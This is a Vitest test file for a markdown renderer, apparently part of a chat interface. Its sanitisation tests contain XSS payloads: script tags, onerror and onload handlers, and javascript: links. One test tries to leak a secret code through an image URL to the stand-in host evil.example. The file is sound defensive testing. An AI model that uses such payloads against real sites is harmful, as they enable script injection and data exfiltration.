import { describe, expect, it } from 'vitest';
import { highlight, renderMarkdown } from '../src/markdown';

function dom(html: string): HTMLElement {
  const d = document.createElement('div');
  d.innerHTML = html;
  return d;
}

describe('renderMarkdown', () => {
  it('renders the usual markdown', () => {
    const d = dom(renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |'));
    expect(d.querySelector('h1')!.textContent).toBe('Title');
    expect(d.querySelector('strong')!.textContent).toBe('bold');
    expect(d.querySelectorAll('li')).toHaveLength(2);
    expect(d.querySelector('table td')!.textContent).toBe('1');
  });

  it('renders an unclosed code fence while streaming as a code block', () => {
    const partial = 'Here you go:\n\n```python\ndef f(x):\n    return x';
    const d = dom(renderMarkdown(partial, true));
    const code = d.querySelector('pre code')!;
    expect(code).not.toBeNull();
    expect(code.textContent).toBe('def f(x):\n    return x');
    expect(code.className).toContain('language-python');
    expect(d.querySelector('.hljs-keyword')!.textContent).toBe('def');
    // once closed, the same block stays a block (no jump)
    const done = dom(renderMarkdown(partial + '\n```\n\nDone.'));
    expect(done.querySelector('pre code')!.textContent).toBe('def f(x):\n    return x\n'.trimEnd());
    expect(done.querySelectorAll('p')).toHaveLength(2);
  });

  it('holds back a half-typed fence opener while streaming', () => {
    expect(dom(renderMarkdown('Text\n\n``', true)).textContent!.trim()).toBe('Text');
    expect(dom(renderMarkdown('Text\n\n```py', true)).querySelector('code')).toBeNull();
    // not while final
    expect(dom(renderMarkdown('Text\n\n``')).textContent).toContain('``');
  });

  it('copes with other partial markdown without throwing', () => {
    for (const s of ['**bold', '[link](http://exa', '| a | b |\n|--', '1. one\n2.', '> quote\n>', '<div', '`inline', '~~~']) {
      expect(() => renderMarkdown(s, true)).not.toThrow();
    }
  });

  it('adds a copy button and a language label to code blocks', () => {
    const d = dom(renderMarkdown('```js\nconst a = 1;\n```'));
    expect(d.querySelector('.code-block .copy-code')).not.toBeNull();
    expect(d.querySelector('[data-testid="copy-code"]')).not.toBeNull();
    expect(d.querySelector('.code-lang')!.textContent).toBe('js');
  });

  it('sanitises scripts, event handlers and javascript: links', () => {
    const html = renderMarkdown(
      'hi <script>alert(1)</script> <img src=x onerror="alert(2)"> [click](javascript:alert(3)) <a href="javascript:alert(4)">x</a> <iframe src="https://evil"></iframe> <svg onload=alert(5)></svg> <b style="color:red" onclick="x()">b</b>',
    );
    const d = dom(html);
    expect(d.querySelector('script')).toBeNull();
    expect(d.querySelector('iframe')).toBeNull();
    expect(html).not.toMatch(/onerror|onload|onclick/i);
    expect(html).not.toMatch(/javascript:/i);
    for (const a of d.querySelectorAll('a')) expect(a.getAttribute('href') || '').not.toMatch(/^javascript/i);
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('b')!.getAttribute('style')).toBeNull();
  });

  it('escapes HTML inside code blocks and code languages', () => {
    const d = dom(renderMarkdown('```"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```'));
    expect(d.querySelector('script')).toBeNull();
    expect(d.querySelector('img')).toBeNull();
    expect(d.querySelector('code')!.textContent).toContain('<script>alert(1)</script>');
  });

  it('never loads an image: each becomes a link to click instead, or its words', () => {
    const secret = 'code 58-27-93';
    const html = renderMarkdown(
      `![leak](https://evil.example/x.png?q=${encodeURIComponent(secret)}) ` +
        '<img src="https://evil.example/a.png" alt="a"> <img src="//evil.example/b.png"> ' +
        '<img src="/\\evil.example/c.png"> <img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://evil.example/d.png 2x"> ' +
        '<picture><source srcset="https://evil.example/e.png"><img src="data:image/gif;base64,R0lGOD==" alt="dot"></picture> ' +
        '<video poster="https://evil.example/f.png" src="https://evil.example/g.mp4"></video> ' +
        '<audio src="https://evil.example/h.mp3"></audio> <svg><image href="https://evil.example/i.png"></image></svg> ' +
        '<table background="https://evil.example/j.png"><tr><td>t</td></tr></table> <a href="https://example.com" ping="https://evil.example/k">k</a> ' +
        // This site's own addresses load nothing either: a GET the reader never chose.
        '![own](/x) <img src="/share/x"> <img alt="no source">',
    );
    expect(html).not.toMatch(/srcset|poster|background|ping=/i);
    const d = dom(html);
    expect(d.querySelectorAll('img, video, audio, source, picture, image, svg')).toHaveLength(0);
    for (const el of d.querySelectorAll('[src], [srcset], [poster], [background]')) throw new Error(el.outerHTML);
    const links = [...d.querySelectorAll('a.remote-image')] as HTMLAnchorElement[];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      `https://evil.example/x.png?q=${encodeURIComponent(secret)}`,
      'https://evil.example/a.png',
      '//evil.example/b.png',
      '/\\evil.example/c.png',
      '/x',
      '/share/x',
    ]);
    expect(links.map((a) => a.textContent)).toEqual(['[image: leak]', '[image: a]', '[image]', '[image]', '[image: own]', '[image]']);
    expect(links[0].getAttribute('rel')).toContain('noreferrer');
    // Inline data: images and one with no address are their words, not links.
    expect([...d.querySelectorAll('.image-removed')].map((s) => s.textContent)).toEqual(['[image]', '[image: dot]', '[image: no source]']);
  });

  it('opens links in a new tab without an opener', () => {
    const a = dom(renderMarkdown('[site](https://example.com)')).querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toContain('noopener');
  });

  it('highlight escapes unknown languages', () => {
    expect(highlight('<b>', 'nosuchlang')).toBe('&lt;b&gt;');
    expect(highlight('x = 1', 'py')).toContain('hljs-number');
  });
});
